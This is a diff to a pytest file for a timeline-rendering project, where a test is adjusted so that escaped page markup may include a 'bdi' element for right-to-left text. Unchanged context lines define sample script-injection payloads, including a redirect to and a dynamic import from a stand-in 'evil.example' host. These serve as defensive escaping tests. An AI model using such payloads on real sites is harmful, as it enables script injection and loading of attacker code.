@@ -22,6 +22,7 @@ from timeline.reader.parts import part_of
 from timeline.story import Event, Lane, Outlet, Person, Quotation, Source, Story, Term
 from timeline.table import to_table
 from timeline.timeline import make_timeline
+from timeline.wording import RIGHT_TO_LEFT
 
 # Ours, by what each is after; {n} tells one from another.
 _ACTS = ("window.broken={n}", "top.location='//evil.example/{n}'", "import('//evil.example/{n}')")
@@ -155,8 +156,14 @@ def plain(*, is_long: bool) -> dict[str, Structure]:
 
 @pytest.mark.parametrize("text", STRINGS[:: len(STRINGS) // 60])
 def test_no_part_of_the_page_holds_an_element_made_of_text(text: str) -> None:
+    """Only what is written from right to left is set apart, by our own `bdi`."""
+    kept = ("bdi", ())
     for part, html in markups(affair([text])).items():
-        assert Structure(html).elements == plain(is_long=len(text) > 20)[part].elements, part
+        own = plain(is_long=len(text) > 20)[part].elements
+        found = Structure(html).elements
+        if RIGHT_TO_LEFT.search(text):
+            own, found = ([each for each in some if each != kept] for some in (own, found))
+        assert found == own, part
 
 
 def test_a_thousand_strings_stand_in_the_panels_letter_by_letter() -> None:
